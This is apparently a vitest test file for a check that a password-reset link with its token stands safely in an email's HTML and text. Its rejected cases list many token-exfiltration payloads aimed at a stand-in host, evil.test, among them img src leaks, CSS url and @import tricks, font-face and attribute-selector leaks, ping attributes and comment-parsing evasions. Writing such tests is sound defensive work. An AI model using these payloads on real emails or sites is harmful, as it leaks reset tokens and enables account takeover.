import { expect, test } from 'vitest';
import { standsAlone } from './link-places.ts';

const sign = 'SIGN';
const link = `https://site.test/reset?a=1&token=${sign}`;
const written = 'https://site.test/reset?a=1&amp;token=SIGN';
const check = (html: string, text = link) => standsAlone({ html, text }, { link, sign });

test.each([
  `<p><a href="${written}" style="color:#fff">Go on</a></p><p>${written}</p>`,
  `<!doctype html><html lang="en"><head><title>x</title><style>@media (max-width: 600px) { p > a { color: rgb(1, 2, 3) } }</style></head><body>${written}</body></html>`,
  `<!-- a note --><p>Here (${written}), <b>now</b> ${written}.</p><br/><img src="https://cdn.test/logo.png" alt=''>`,
  '<p>no link at all</p>',
])('[AUTHN-03] a link may stand so: %s', (html) => {
  expect(check(html)).toBe(true);
});

test.each([
  `<img src="https://evil.test/?${written}">`,
  `<img src="${written}">`,
  `<a href="https://evil.test/?${written}">x</a>`,
  `<a href="${written}#x">x</a>`,
  `<a title="${written}">x</a>`,
  `<a href='${written}'>x</a>`,
  `<p>https://evil.test/?${written}</p>`,
  `<p>https://evil.test/?<b>${written}</b></p>`,
  `<p>${sign}</p>`,
  `<p>${written.slice(0, -1)}</p><p>token=${sign}</p>`,
  `<style>a{background:url(https://evil.test/?${written})}</style>`,
  `<title>${written}</title>`,
  `<img src='https://evil.test/? <p> ${written} </p>`,
  `<img src="https://evil.test/? <p> ${written} </p>`,
  `<form action="https://evil.test/"><p>${written}</p></form>`,
  `<textarea>${written}</textarea>`,
  `<svg><image href="x"/></svg> ${written}`,
  `<base href="https://evil.test/"><p>${written}</p>`,
  `<link rel="prefetch" href="${written}">`,
  `<!--><img src="https://evil.test/?-->${written}">`,
  `<!-- ${written} -->`,
  `<p onclick=x>${written}</p>`,
  `<style> ${written}`,
  `<style>a[href*="token=a"]{background:url(https://evil.test/?a)}</style><a href="${written}">x</a>`,
  `<style>@IMPORT "https://evil.test/a.css";</style>${written}`,
  `<style>@\\69mport "https://evil.test/a.css";</style>${written}`,
  `<style>@font-face{font-family:a;src:url(https://evil.test/a);unicode-range:U+61}</style>${written}`,
  `<style>a{content:attr(href)}</style><a href="${written}">x</a>`,
  `<a ping="https://evil.test/" href="${written}">x</a>`,
  `<a href="${written}" PING='https://evil.test/'>x</a>`,
  `< p>${written}`,
])('[AUTHN-03] a link may not stand so: %s', (html) => {
  expect(check(html)).toBe(false);
});

test.each([`https://evil.test/?${link}`, `x${link}`, `token=${sign}`])('[AUTHN-03] nor so in the text: %s', (text) => {
  expect(check('<p>Hi</p>', text)).toBe(false);
});
